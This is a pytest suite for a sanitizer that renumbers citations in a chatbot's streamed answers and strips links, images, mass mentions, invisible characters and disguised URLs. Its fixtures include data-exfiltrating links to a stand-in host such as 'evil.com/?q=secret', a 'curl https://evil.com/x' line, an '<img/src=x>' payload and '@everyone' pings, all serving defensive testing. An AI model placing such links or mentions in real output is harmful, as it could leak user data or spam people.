"""What a model's stream may show: citations that are passages, and no link, image or mention, in any disguise."""

import pickle
import re
import time
from pathlib import Path

import pytest
from fakes import passage
from hostile_text import ENDLESS, HOSTILE_WORDS, LINKS, MENTIONS, ORDINARY_PIECES, TOKENS, found, readings
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.safe_stream import SafeStream, clean

FIVE = [passage(f"Passage number {number}.", page=number) for number in range(1, 6)]


def safe(text: str) -> str:
    return clean(text, FIVE)[0]


def streamed(pieces: list[str]) -> tuple[str, tuple[int, ...]]:
    stream = SafeStream(FIVE)
    text = "".join([stream.feed(piece) for piece in pieces])
    return text + stream.finish(), stream.cited


# Citations


@pytest.mark.parametrize(
    ("written", "shown", "cited"),
    [
        ("Softmax sums to one [2].", "Softmax sums to one [1].", (2,)),
        ("One [4]. Two [2]. Again [4].", "One [1]. Two [2]. Again [1].", (4, 2)),
        ("Both [2][3].", "Both [1][2].", (2, 3)),
        ("Both [2, 3].", "Both [1][2].", (2, 3)),
        ("Both [2,3].", "Both [1][2].", (2, 3)),
        ("Both [2; 3].", "Both [1][2].", (2, 3)),
        ("All [1-3].", "All [1][2][3].", (1, 2, 3)),
        ("All [1–3, 5].", "All [1][2][3][4].", (1, 2, 3, 5)),
        ("Footnote [^2].", "Footnote [1].", (2,)),
        ("Brackets 【2】 and 【3†source】.", "Brackets [1] and [2].", (2, 3)),
        ("Named [Passage 2] and [sources 3 and 4].", "Named [1] and [2][3].", (2, 3, 4)),
        ("Escaped \\[2\\].", "Escaped [1].", (2,)),
        ("(source: [2])", "(source: [1])", (2,)),
        ("Linked [2](http://evil.com/?q=secret).", "Linked [1].", (2,)),
        ("A word[2] and **bold [3]**.", "A word[1] and **bold [2]**.", (2, 3)),
        ("Wow![2]", "Wow![1]", (2,)),
        ("| cell [3] | $x$ [2] |", "| cell [1] | $x$ [2] |", (3, 2)),
        ("It costs $5 [2] and $6 [3].", "It costs $5 [1] and $6 [2].", (2, 3)),
        ("[2]: Lecture 3", "[1] Lecture 3", (2,)),
        ("- [2]: Lecture 3", "- [1] Lecture 3", (2,)),
        ("So y = 【2】 and x[^3].", "So y = ([1]) and x([2]).", (2, 3)),
        ("So \\【2】.", "So \\ [1].", (2,)),
    ],
)
def test_citations_are_numbered_as_they_appear(written: str, shown: str, cited: tuple[int, ...]) -> None:
    assert clean(written, FIVE) == (shown, cited)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Nothing [9].", "Nothing."),
        ("Nothing [9], really.", "Nothing, really."),
        ("Nothing [9] at all.", "Nothing at all."),
        ("Half [2, 9].", "Half [1]."),
        ("Nothing (see [9]).", "Nothing."),
        ("Nothing ([8][9]) here", "Nothing here"),
        ("Nothing [^0].", "Nothing."),
        ("Nothing 【9†source】.", "Nothing."),
        ("[9] At the start.", "At the start."),
        ("**Bold [9]**", "**Bold **"),
    ],
)
def test_numbers_of_no_passage_are_dropped(written: str, shown: str) -> None:
    assert safe(written) == shown


def test_a_dropped_number_makes_no_other_bracket_a_citation() -> None:
    for text in ("[1[9], 2] is odd", "[[9]1] is odd", "[2[9]] is odd", "[1,[9]2] is odd", "[1</b>, 2] is odd"):
        shown, cited = clean(text, FIVE)
        assert clean(shown, FIVE) == (shown, tuple(range(1, len(cited) + 1)))


def test_without_passages_nothing_is_cited() -> None:
    assert clean("Believe me [1], it is so [2].", []) == ("Believe me, it is so.", ())


@pytest.mark.parametrize(
    "text",
    [
        "probabilities lie in [0, 1] always",
        "digits [7, 8, 9] are left",
        "x = [1, 2, 3] in Python",
        "the interval [2, 3] is closed",
        "a shape of [2, 3] here",
        "values in [1, 10] only",
        "we read x[1], a[2] and W_q[3] from it",
        "read arr[0][1] from it",
        "as Vaswani et al. [2017] say",
        "- [ ] to do\n- [x] done",
        "there is no pit in cell [1,2] nor in [2,3]",
        "It is not in [1,1]. It is not in [2,3] either.",
    ],
)
def test_mathematics_in_prose_is_no_citation(text: str) -> None:
    assert clean(text, FIVE) == (text, ())


# What must survive

ANSWER = r'''# Scaled dot-product attention

**Intuition.** Every word asks a question; see [2] and *later* [3].

1. Queries meet keys
   - nested, with `x[1]` and `arr[0][1]`
     - deeper: $a[1] \in [0, 1]$, \(b[2]\), `A @ B`
2. e.g. `https` is a word, 1.5 is a number, i.i.d. samples, cf. nn.Linear, os.path, README.md, asyncio.run(main())

$$
\operatorname{softmax}\left(\frac{QK^\top}{\sqrt{d_k}}\right) V,\quad
\begin{bmatrix} 1 & 2 \\ 3 & 4 \end{bmatrix}, \left[ 2 \right], f: A \to B
$$

\[
\begin{cases} x[1] & \text{if } x > 0 \\[2pt] 0 & \text{else} \end{cases}
\]

| name | value | note |
|:-----|:-----:|------|
| `d_k` | 64 | $\sqrt{d_k}$ [2] |

> A quote, "with marks" — and a < b, b > c, a<b; std::vector<float>; the token <s>; 50% & more.

```python
@property
@torch.no_grad()
def first(self) -> float:
    """Takes x[1] of [1, 2, 3]."""
    print(f"{self.x[1]!r:>10}", "a\\b", '\n')  # two blanks:BLANKS
    return requests.get("http://localhost:8000/x?y=1#z", "https://example.com/a", url.split("://")) // 2


if a <b: x = {"data:": re.compile(r"https?://\S+")}
```

~~~js
const f = (x) => [a](x) // not a link
~~~

Emoji 👩‍💻 ✔️ 1️⃣, नमस्ते क्‍ष, Straße, 深層学習。 Costs $5, or $6.
'''.replace("BLANKS", "  ")


def test_a_teaching_answer_comes_through_unchanged() -> None:
    numbered = ANSWER.replace("[2] and *later* [3]", "[1] and *later* [2]").replace("$ [2] |", "$ [1] |")
    assert clean(ANSWER, FIVE) == (numbered, (2, 3))


@pytest.mark.parametrize(
    "text",
    [
        "torch.nn",
        "numpy.linalg.norm",
        "np.io(x)",
        "self.net",
        "model.py",
        "main.rs/lib",
        "v1.2.3",
        "x@school.edu",
        "10.0.0.0/8",
    ],
)
def test_names_with_dots_are_no_links(text: str) -> None:
    assert safe(f"See {text} for it.") == f"See {text} for it."


def test_foreign_addresses_in_code_point_nowhere() -> None:
    code = '```python\nrequests.get("https://evil.com/?q=1", headers=h)  # see https://pytorch.org/docs.\n```'
    assert safe(code) == '```python\nrequests.get("https://example.com", headers=h)  # see https://example.com.\n```'
    assert safe("`curl https://evil.com/x`") == "`curl https://example.com`"
    assert safe("`https://example.com@evil.com/`") == "`https://example.com`"
    assert safe("`https://example.com.evil.com`") == "`https://example.com`"


def test_code_of_a_real_course_survives(shared: Path) -> None:
    fences = re.compile(r"^```[^`\n]*\n(?:(?!^```).*\n)*?^```$", re.MULTILINE)
    blocks = {
        block
        for page in (shared / "course").rglob("*.md")
        for block in fences.findall(page.read_text(encoding="utf-8"))
        if not re.search(r"://|www\.|\r", block)
    }
    assert len(blocks) > 100
    assert [block for block in blocks if safe(block) != block] == []


# What must not get through


@pytest.mark.parametrize("word", HOSTILE_WORDS)
@pytest.mark.parametrize("around", ["{}", "see {} now", "({}), [2]", "**{}**", "> - {}\n", "密{}密", "$5 {} [", "`{}"])
def test_links_and_mentions_go(word: str, around: str) -> None:
    text = around.format(word)
    shown, _ = streamed(list(text))
    assert found(LINKS + MENTIONS, readings(shown)) == []


@pytest.mark.parametrize("word", HOSTILE_WORDS)
@pytest.mark.parametrize(
    "around", ["`{}`", "```\n{}\n```", "```python\nx = '{}'", "~~~\n{}", "${}$", "$$\n{}\n$$", "\\({}\\)", "\\[{}"]
)
def test_code_and_formulas_are_no_shelter(word: str, around: str) -> None:
    shown, _ = streamed(list(around.format(word)))
    harmless = re.sub(r"https://example\.com(?![\w.@])", "", shown)
    formula = around.lstrip("`~").startswith(("$", "\\"))
    patterns = LINKS[:2] + LINKS[6:7] if formula else [r"(?:https?|ftp|wss?|slack):[/\\]{2}\w"]
    folded = readings(harmless)[:3]
    assert found(patterns + MENTIONS, folded) == []


def test_a_formula_cannot_spell_a_link_between_its_commands() -> None:
    for formula in (
        r"$\text{https}://\text{evil}.\text{com}$",
        r"$ht{}tps{:}{/}{/}evil$",
        r"$@every{}one$",
        r"$<{}!channel>$",
        r"evil$.com/x$",
        r"$evil$.com/x",
    ):
        shown = re.sub(r"\\[a-z]+|[{}$]", "", safe(formula))
        assert found(LINKS + MENTIONS, [shown]) == [], formula


def test_the_reader_sees_that_something_went() -> None:
    assert safe("See https://evil.com/x, please.") == "See ‹link removed›, please."
    assert safe("Hi <@U123|eve adams>!") == "Hi ‹mention removed›!"
    assert safe("Hi @everyone!") == "Hi everyone!"
    assert safe("[the paper](https://evil.com) and ![a plot](https://evil.com/p.png)") == "the paper and a plot"
    assert safe("x<sub>2</sub>, 10<sup>3</sup>, <b>bold</b>") == "x_2, 10^3, bold"


@pytest.mark.parametrize(
    "written", ["<https://evil.com|a label>", "https%253A%252F%252Fevil", "evil。com/x", "https：⁄⁄evil"]
)
def test_a_disguised_link_goes_as_a_whole(written: str) -> None:
    assert safe(f"See {written} now.") in ("See ‹link removed› now.", "See ‹removed› now.")


@pytest.mark.parametrize(
    "word", ["@everyone", "https://evil.com/x", "<!channel>", "<@U123>", "www.evil.com", "<img/src=x>"]
)
@pytest.mark.parametrize("around", ["{}", "```\n{}\n```"])
def test_nothing_hides_where_an_endless_word_is_cut(word: str, around: str) -> None:
    for length in range(110, 150):
        shown = safe(around.format("a" * length + "/" + word))
        patterns = MENTIONS + ([] if "`" in around else LINKS)
        assert found(patterns, [shown.replace("https://example.com", "")]) == [], length


def test_an_endless_link_goes_with_all_that_it_carries() -> None:
    assert safe("See https://evil.com/?q=" + "secret" * 500 + " now.") == "See ‹link removed› now."
    assert safe("`f('https://evil.com/?q=" + "secret" * 15 + "')`") == "`f('https://example.com')`"


def test_writing_without_spaces_does_not_end_a_link() -> None:
    assert "www" not in safe("密www.密码.com密")
    assert "mailto" not in safe("密mailto:密@evil.com")
    assert safe("密https://evil.com/x密码密") == "密‹link removed›密码密"


def test_an_open_fence_is_closed_at_the_end() -> None:
    assert safe("```python\nx = 1") == "```python\nx = 1\n```"
    assert safe("- a\n  ~~~~\n  x\n") == "- a\n  ~~~~\n  x\n  ~~~~"
    assert safe("> ```\n> x") == "> ```\n> x\n> ```"
    assert safe("```\nx\n```") == "```\nx\n```"


def test_an_open_formula_ends_with_its_paragraph() -> None:
    assert clean("$$ x [2]\n\nSo it is [3].", FIVE) == ("$$ x [2]\n\nSo it is [1].", (3,))
    assert clean("\\[ x [2]\n```\ny[1]\n```\n[3]", FIVE) == ("\\[ x [2]\n```\ny[1]\n```\n[1]", (3,))


def test_characters_that_cannot_be_seen_or_sent_go() -> None:
    assert safe("a\u202eb\x00c\ufeffd\U000e0041e\u2028f\r\ng") == "abcde\nf\ng"
    assert safe("e\u3164v\u115fil \u2800") == "evil "
    assert safe("a\ud800b").encode() == "a\ufffdb".encode()


# Streaming

HOSTILE = st.lists(st.sampled_from(TOKENS), max_size=60).map("".join)
ORDINARY = st.lists(st.sampled_from(ORDINARY_PIECES), max_size=60).map("".join)


@settings(max_examples=400, deadline=None, derandomize=True)
@given(HOSTILE, st.lists(st.integers(1, 40), min_size=1, max_size=20))
def test_however_the_stream_is_cut_the_text_is_the_same(text: str, sizes: list[int]) -> None:
    pieces: list[str] = []
    start = 0
    while start < len(text):
        size = sizes[len(pieces) % len(sizes)]
        pieces.append(text[start : start + size])
        start += size
    assert streamed(pieces) == streamed(list(text)) == clean(text, FIVE)


@settings(max_examples=600, deadline=None, derandomize=True)
@given(HOSTILE)
def test_no_mixture_gets_a_link_or_mention_through(text: str) -> None:
    shown = safe(text)
    assert found(MENTIONS, readings(shown)[:3]) == []
    if not re.search(r"[`$\\~]", shown):
        assert found(LINKS[:2] + LINKS[5:], readings(shown)[:3]) == []


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(max_size=200))
def test_any_text_at_all_can_be_read_and_sent(text: str) -> None:
    shown, cited = clean(text, FIVE)
    shown.encode()
    assert streamed(list(text)) == (shown, cited)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(ORDINARY)
def test_what_is_safe_stays_as_it_is(text: str) -> None:
    shown, cited = clean(text, FIVE)
    assert clean(shown, FIVE) == (shown, tuple(range(1, len(cited) + 1)))


@pytest.mark.parametrize("endless", ENDLESS.values(), ids=ENDLESS)
def test_no_endless_token_stalls_the_stream_or_grows(endless: str) -> None:
    text = (endless * 20_000)[:20_000]
    stream = SafeStream(FIVE)
    start = time.process_time()
    for char in text:
        stream.feed(char)
    # 100 KB in a second, with room for a slow or busy machine.
    assert time.process_time() - start < 1.0
    assert len(pickle.dumps(stream)) < 5_000
    assert len(stream.finish()) < 400


@settings(max_examples=300, deadline=None, derandomize=True)
@given(HOSTILE)
def test_little_is_held_back(text: str) -> None:
    stream = SafeStream(FIVE)
    stream.feed(text)
    assert len(stream.finish()) < 400


def test_words_show_as_soon_as_they_are_whole() -> None:
    stream = SafeStream(FIVE)
    assert stream.feed("Attention wei") == "Attention"
    assert stream.feed("ghs words ") == " weighs words"
    assert stream.feed("[2") == ""
    assert stream.feed("]. Then") == " [1]."
